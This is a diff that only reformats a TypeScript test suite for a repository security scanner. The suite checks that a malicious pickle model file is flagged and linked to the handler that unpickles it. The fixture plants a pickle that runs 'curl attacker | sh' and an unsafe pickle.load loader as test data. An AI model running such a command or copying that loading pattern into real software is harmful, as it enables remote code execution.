@@ -16,7 +16,9 @@ useRealRules(p, ["ml-serving/model-artifacts.policy.yaml"]);
 
 async function scan(repositoryId: string) {
   const { scan } = await enqueueScan(t.db, p.queues, repositoryId, "manual");
-  expect(await runScan({ db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: true }, scan.id, { number: 1, max: 3 })).toBe("succeeded");
+  expect(await runScan({ db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: true }, scan.id, { number: 1, max: 3 })).toBe(
+    "succeeded",
+  );
 }
 
 const stored = async (repositoryId: string) =>
@@ -33,13 +35,22 @@ describe("model files linked with the code that loads them", () => {
     repo
       .write("requirements.txt", "torch>=2.0\n")
       .write("model-store/classifier.pkl", callPickle("os", "system", "curl attacker | sh"))
-      .write("serve/handler.py", 'import os, pickle\n\ndef load():\n    with open(os.path.join("model-store", "classifier.pkl"), "rb") as f:\n        return pickle.load(f)\n')
+      .write(
+        "serve/handler.py",
+        'import os, pickle\n\ndef load():\n    with open(os.path.join("model-store", "classifier.pkl"), "rb") as f:\n        return pickle.load(f)\n',
+      )
       .commit("classifier");
     repositoryId = (await registerRepository(t.db, { url: repo.dir, team: "ml-platform" }, true)).id;
     await scan(repositoryId);
     expect(await stored(repositoryId)).toEqual([
-      { at: "model-store/classifier.pkl:1 ml-serving.artifact.code-execution open", related: ["serve/handler.py:5 ml-serving.artifact.unsafe-load"] },
-      { at: "serve/handler.py:5 ml-serving.artifact.unsafe-load open", related: ["model-store/classifier.pkl:1 ml-serving.artifact.code-execution"] },
+      {
+        at: "model-store/classifier.pkl:1 ml-serving.artifact.code-execution open",
+        related: ["serve/handler.py:5 ml-serving.artifact.unsafe-load"],
+      },
+      {
+        at: "serve/handler.py:5 ml-serving.artifact.unsafe-load open",
+        related: ["model-store/classifier.pkl:1 ml-serving.artifact.code-execution"],
+      },
     ]);
   });
 
@@ -47,7 +58,10 @@ describe("model files linked with the code that loads them", () => {
     repo.write("model-store/classifier.pkl", torchStateDict()).commit("safe weights");
     await scan(repositoryId);
     expect(await stored(repositoryId)).toEqual([
-      { at: "model-store/classifier.pkl:1 ml-serving.artifact.code-execution fixed", related: ["serve/handler.py:5 ml-serving.artifact.unsafe-load"] },
+      {
+        at: "model-store/classifier.pkl:1 ml-serving.artifact.code-execution fixed",
+        related: ["serve/handler.py:5 ml-serving.artifact.unsafe-load"],
+      },
       { at: "serve/handler.py:5 ml-serving.artifact.unsafe-load open", related: null },
     ]);
   });
